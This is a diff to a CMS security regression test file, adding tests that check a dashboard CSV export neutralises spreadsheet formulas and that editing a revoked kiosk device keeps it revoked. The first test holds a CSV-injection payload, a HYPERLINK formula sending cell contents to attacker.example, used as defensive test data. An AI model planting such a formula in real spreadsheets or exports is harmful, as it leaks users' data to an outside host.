@@ -1,6 +1,7 @@
 """Holding against an attacker (issue 15): each test sends what an attacker sent and fails on the code
 that let it through."""
 
+import csv
 import io
 import os
 import stat
@@ -22,7 +23,10 @@ from wagtail.admin.panels import ObjectList
 from wagtail.models import GroupCollectionPermission, GroupPagePermission, Page
 
 from cms.applications.models import Application
-from cms.services.models import Department
+from cms.devices.auth import device_for_token
+from cms.devices.models import KioskDevice
+from cms.services.dashboard import current_report, report_csv
+from cms.services.models import Department, ServiceGuidePage
 from cms.services.permissions import REVIEWERS
 from tests.cms.test_applications import (
     IMMEDIATE,
@@ -346,3 +350,29 @@ def test_only_a_superuser_may_change_which_group_edits_for_a_department(django_u
     form_class = ObjectList(Department.panels).bind_to_model(Department).get_form_class()
     assert "editors" not in form_class(instance=Department.objects.first(), for_user=reviewer).fields
     assert "editors" in form_class(instance=Department.objects.first(), for_user=chief).fields
+
+
+# ---- 7. small ones --------------------------------------------------------------------------------
+
+
+def test_dashboard_csv_escapes_department_names_against_spreadsheet_formulas():
+    formula = '=HYPERLINK("https://attacker.example/?"&A1,"详情")'
+    department = Department.objects.filter(name__in=[g.department.name for g in ServiceGuidePage.objects.live()])
+    department.update(name_en=formula)
+    rows = list(csv.reader(io.StringIO(report_csv(current_report()).lstrip("\ufeff"))))
+    names = {row[2] for row in rows[1:]}
+    assert "'" + formula in names
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
+
+
+def test_editing_a_revoked_kiosk_does_not_reactivate_it(admin_client):
+    device = KioskDevice(name="xindai-2")
+    token = device.issue_token()
+    device.revoke()
+    device.save()
+    response = admin_client.post(f"/admin/kiosks/edit/{device.pk}/", {"name": "xindai-2 (spare)", "centre": ""})
+    assert response.status_code in (200, 302)
+    device.refresh_from_db()
+    assert device.name == "xindai-2 (spare)"
+    assert device.revoked_at is not None  # before: active again, with a new token
+    assert device_for_token(token) is None
